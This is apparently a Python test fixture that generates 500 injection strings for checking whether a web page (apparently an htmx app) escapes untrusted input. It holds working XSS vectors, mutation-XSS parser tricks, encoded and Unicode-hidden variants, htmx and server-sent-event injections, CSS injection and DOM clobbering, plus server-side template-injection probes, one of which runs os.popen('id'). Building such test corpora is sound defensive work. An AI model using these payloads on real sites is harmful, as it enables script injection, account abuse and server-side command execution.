"""Five hundred things that somebody might say to have a page run them, made from families.

Each calls `RUN` if anything of it is ever taken for code. They are distinct in
their structure, not by a number only; `PAYLOADS` takes from the families in turn.
"""

from __future__ import annotations

from collections.abc import Iterable
from itertools import product, zip_longest

WANTED = 500
RUN = "window.__pwned=1"
IMG = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"

EVENTS = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "ontoggle",
    "onpointerover",
    "onbegin",
]
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "marquee",
    "object data=x",
    "iframe src=x",
    "select autofocus",
    "svg><animate attributeName=x dur=1s",
    "custom-element tabindex=1",
)

SCRIPTS = (
    SCRIPT,
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script async defer>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//example.com/x.js></script>",
    "<script src=https://example.com/x.js></script>",
    "<script src=/v1/agents></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<math><script>{RUN}</script></math>",
    f"<template><script>{RUN}</script></template>",
    f"<script nonce=x>{RUN}</script>",
    f"<script>/*</script>*/{RUN}</script>",
    f"<script>eval('{RUN}')</script>",
    f"<script>Function('{RUN}')()</script>",
    f"<script>setTimeout('{RUN}')</script>",
    f"<script>import('data:text/javascript,{RUN}')</script>",
    f"<object><script>{RUN}</script></object>",
    f"<link rel=modulepreload href=data:text/javascript,{RUN}>",
    f"<noscript></noscript><script>{RUN}</script>",
    f"x{SCRIPT}y",
    f"<b>{SCRIPT}</b>",
    f"<script\t>{RUN}</script\t>",
    f"<script\f>{RUN}</script>",
)
HANDLERS = [f"<{tag} {event}={RUN}>" for tag, event in product(TAGS, EVENTS)]
BREAKOUTS = [
    f"{quote}{gap}{rest.replace('~', quote)}"
    for quote, gap, rest in product(
        ('"', "'", "`", ""),
        (" ", ">", "/", "\n"),
        (
            f"autofocus onfocus=~{RUN}~ x=~",
            f"onmouseover=~{RUN}~ style=~position:fixed;inset:0~ x=~",
            IMG,
            SCRIPT,
            f"formaction=~javascript:{RUN}~ x=~",
            f"hx-on:load=~{RUN}~ x=~",
        ),
    )
]
CLOSERS = (
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</option></select>",
    "</template>",
    "</xmp>",
    "</svg>",
    "</math>",
    "</bdi></a>",
    "</td></tr></table>",
    "</progress>",
    "</hx-partial>",
    "</main></body></html>",
)
ENDINGS = [f"{closer}{what}" for closer, what in product(CLOSERS, (IMG, SCRIPT, f"<svg onload={RUN}>"))]
SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//example.com/x",
    "https://example.com/x",
)
WRAPS = (
    "{}",
    '<a href="{}">go</a>',
    '<form action="{}"><button>go</button></form>',
    '<iframe src="{}"></iframe>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}"><text>go</text></a></svg>',
    '<base href="{}">',
    "[go]({})",
)
ADDRESSES = [wrap.format(scheme) for scheme, wrap in product(SCHEMES, WRAPS)]
TEMPLATES = (
    "{{7*7}}",
    "{{ 7 * '7' }}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "@{7*7}",
    "<%= 7*7 %>",
    "{%= 7*7 %}",
    "{# comment #}",
    "{% raw %}",
    "{% endraw %}{{7*7}}",
    "{% include 'layout.html' %}",
    "{% set x = cycler %}{{x}}",
    "{{ config }}",
    "{{ self }}",
    "{{ request }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ url_for.__globals__ }}",
    "{{ kept }}",
    "{{ root }}/{{ version }}",
    "[[7*7]]",
    "[(7*7)]",
    "{{constructor.constructor('" + RUN + "')()}}",
    "{{$on.constructor('" + RUN + "')()}}",
    "<%- 7*7 %>",
    "<? 7*7 ?>",
    "{{{7*7}}}",
    "{{=7*7}}",
    "%{7*7}",
    "{7*7}",
    "~{7*7}",
    "%(name)s %s %d",
    "{0} {name!r} {0.__class__}",
    "{% for x in [1,2] %}{{ x }}{% endfor %}",
    "{%- if 1 -%}yes{%- endif -%}",
    "`${" + RUN + "}`",
)
HTMX = (
    "<div hx-get=/agents hx-trigger=load hx-target=body></div>",
    "<div hx-post=/logout hx-trigger=load></div>",
    "<div hx-delete=/v1/agents/x hx-trigger=load></div>",
    "<div data-hx-get=/agents data-hx-trigger=load></div>",
    f'<div hx-on:load="{RUN}"></div>',
    f'<div hx-on::after-swap="{RUN}"></div>',
    f'<div hx-on-click="{RUN}">x</div>',
    f"<div hx-vals='js:{{a: {RUN}}}' hx-get=/ hx-trigger=load></div>",
    f'<div hx-get=/ hx-trigger="load[{RUN}]"></div>',
    "<div hx-sse:connect=/v1/stream></div>",
    "<div hx-sse:connect=//example.com/live hx-swap=none></div>",
    "<div hx-ws:connect=//example.com/live></div>",
    "<div hx-ext=sse sse-connect=/live sse-swap=message></div>",
    "<hx-partial hx-target=body hx-swap=innerHTML>gone</hx-partial>",
    "<hx-partial hx-target=#main hx-swap=delete></hx-partial>",
    "</hx-partial><hx-partial hx-target=#main hx-swap=delete></hx-partial><hx-partial>",
    f"<hx-partial hx-target=#main hx-swap=beforebegin>{IMG}</hx-partial>",
    "<HX-PARTIAL HX-TARGET=body HX-SWAP=outerHTML></HX-PARTIAL>",
    "<div id=main hx-swap-oob=true>gone</div>",
    "<div hx-swap-oob=delete:#live></div>",
    f"<div hx-swap-oob='innerHTML:#main'>{IMG}</div>",
    "<template hx type=partial hx-target=#main>gone</template>",
    "<div hx-boost=true><a href=//example.com>x</a></div>",
    "<div hx-confirm=x hx-delete=/agents hx-trigger=revealed></div>",
    "<div hx-push-url=//example.com hx-get=/ hx-trigger=load></div>",
    '<div hx-headers=\'{"X": "y"}\' hx-get=//example.com hx-trigger=load></div>',
    "<div hx-select=#main hx-get=/login hx-trigger=load></div>",
    "<form hx-post=//example.com hx-trigger=load><input name=a></form>",
    "<div hx-action=/logout hx-method=post hx-trigger=load></div>",
    "<div hx-indicator=#main hx-disable hx-get=/ hx-trigger=every 1s></div>",
    "<meta name=htmx-config content='{\"transitions\":true}'>",
    '<div hx-live="text: 1"></div>',
    "<div hx-preserve id=main></div>",
    f"<script type=text/hx>{RUN}</script>",
    "<div hx-morph-skip id=main></div>",
    "<div data-fresh id=activity></div>",
    "<button data-key=n>x</button>",
)
BREAKS = ("\n\n", "\r\n\r\n", "\r\r", "\n", "\r", "\u2028", "\u0085", "\x0b\x0b")
FIELDS = (
    f"data: {IMG}",
    "event: reset\ndata: y",
    "id: 0-0\ndata: x",
    "retry: 1",
    ": comment",
    "data: <hx-partial hx-target=#main hx-swap=delete></hx-partial>",
)
FRAMES = [f"a{end}{field}{end}b" for end, field in product(BREAKS, FIELDS)]


def encoded(text: str) -> list[str]:
    """One text in the writings that a careless reader would undo."""
    wide = "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)
    return [
        "".join(f"&#{ord(c)};" for c in text),
        "".join(f"&#x{ord(c):x}" for c in text),
        text.replace("<", "&lt;").replace(">", "&gt;"),
        text.replace("<", "&amp;lt;"),
        "".join(f"%{ord(c):02X}" for c in text),
        "".join(f"%25{ord(c):02X}" for c in text),
        "".join(f"\\u{ord(c):04x}" for c in text),
        "".join(f"\\x{ord(c):02x}" for c in text),
        wide,
        "+ADw-" + text.strip("<>") + "+AD4-",
        text.replace("<", "\u2039").replace(">", "\u203a"),
        text.replace("<", "%C0%BC"),
        "".join(f"\\{ord(c):o}" for c in text),
        text.replace("<", "\u02c2"),
        text.replace("<", "\\74"),
        text.replace("<", "&LT;"),
    ]


ENCODINGS = [each for text in (SCRIPT, IMG, f'" onfocus={RUN} "') for each in encoded(text)]
MUTATIONS = (
    f'<svg></p><style><a id="</style>{IMG}">',
    f"<math><mtext><table><mglyph><style><!--</style>{IMG}",
    f'<noscript><p title="</noscript>{IMG}">',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{IMG}">',
    f"<svg><style><!--</style>{IMG}-->",
    f"<math><annotation-xml encoding=text/html><style></math>{IMG}",
    f"<table><caption><svg><title>{IMG}",
    f"<select><template><style></select>{IMG}",
    f"<p><svg><foreignObject><p><style></svg>{IMG}",
    f'<xmp><p title="</xmp>{IMG}">',
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f'<textarea><p title="</textarea>{IMG}">',
    f'<title><p title="</title>{IMG}">',
    f'<style><p title="</style>{IMG}">',
    f'<iframe><p title="</iframe>{IMG}">',
    f'<noembed><p title="</noembed>{IMG}">',
    f"<svg><desc><![CDATA[</desc>{IMG}]]>",
    f"<a title=`{IMG}`>",
    f"<template><tr><td>{IMG}",
    f'<math href="javascript:{RUN}"><mi>x',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x">',
    f"<table><td>{IMG}<table>",
    "<plaintext>",
    f"<option>{IMG}",
)
COMMENTS = (
    "<!--",
    "-->",
    "<!-->",
    f"<!--{IMG}",
    f"<!-->{IMG}",
    f"<!--->{IMG}",
    f"--!>{IMG}",
    f"<!-- --!>{IMG}",
    f"]]>{IMG}",
    f"<![CDATA[{IMG}]]>",
    f"<?xml version=1?>{IMG}",
    f"<!DOCTYPE x [<!ENTITY e '{RUN}'>]>&e;",
    f"<!{IMG}>",
    f"</{IMG}",
    f"<%{IMG}%>",
    f"*/{IMG}/*",
    f"<!--[if IE]>{IMG}<![endif]-->",
)
HIDDEN = [
    shape.format(script=SCRIPT, img=IMG)
    for shape in (
        "\u202e{script}\u202c",
        "\u2066{img}\u2069",
        "\u200b{script}",
        "\ufeff{img}",
        "\u2068{script}",
        "\u202b{img}",
        "<\u200bscript>{img}",
        "<scr\u00adipt>{img}",
        "<\u2060img src=x>{script}",
        "\U000e0001{script}",
        "\u061c{img}",
        "\u180e{script}",
        "e\u0301\u0301{img}",
        "\U0001f469\u200d\U0001f4bb{script}",
        "\u05e9\u05dc\u05d5\u05dd {img}",
        "\u0645\u0631\u062d\u0628\u0627 {script}",
        "\u3000{img}",
        "\ufffd{script}",
        "\u0130{img}\u212a",
    )
]
STYLES = (
    "<style>body{display:none}</style>",
    "<style>@import url(//example.com/x.css)</style>",
    "<link rel=stylesheet href=//example.com/x.css>",
    "<div style=position:fixed;inset:0>x</div>",
    f'<div style="background:url(javascript:{RUN})">x',
    f'<div style="width:expression({RUN})">x',
    "<style>*{background:url(//example.com/x)}</style>",
    f'<style><img src="</style>{IMG}">',
    "<font size=99 color=red>x",
    "<center><blink>x",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>",
    "<svg style=fill:url(//example.com/x)>",
    "<table background=//example.com/x>",
)
CLOBBERS = [
    f"<{tag} {attribute}={name}>"
    for tag, (attribute, name) in product(
        ("form", "img", "a href=x", "input"),
        (("id", "live"), ("id", "main"), ("name", "htmx"), ("id", "chosen"), ("name", "body"), ("id", "agent-rows")),
    )
]
FAMILIES: dict[str, Iterable[str]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "breakouts": BREAKOUTS,
    "endings": ENDINGS,
    "addresses": ADDRESSES,
    "templates": TEMPLATES,
    "htmx": HTMX,
    "frames": FRAMES,
    "encodings": ENCODINGS,
    "mutations": MUTATIONS,
    "comments": COMMENTS,
    "hidden": HIDDEN,
    "styles": STYLES,
    "clobbers": CLOBBERS,
}


def in_turn(families: Iterable[Iterable[str]]) -> list[str]:
    """One of each family, then the next of each; what two families share, once."""
    return list(dict.fromkeys(text for row in zip_longest(*families) for text in row if text is not None))


PAYLOADS = in_turn(FAMILIES.values())[:WANTED]
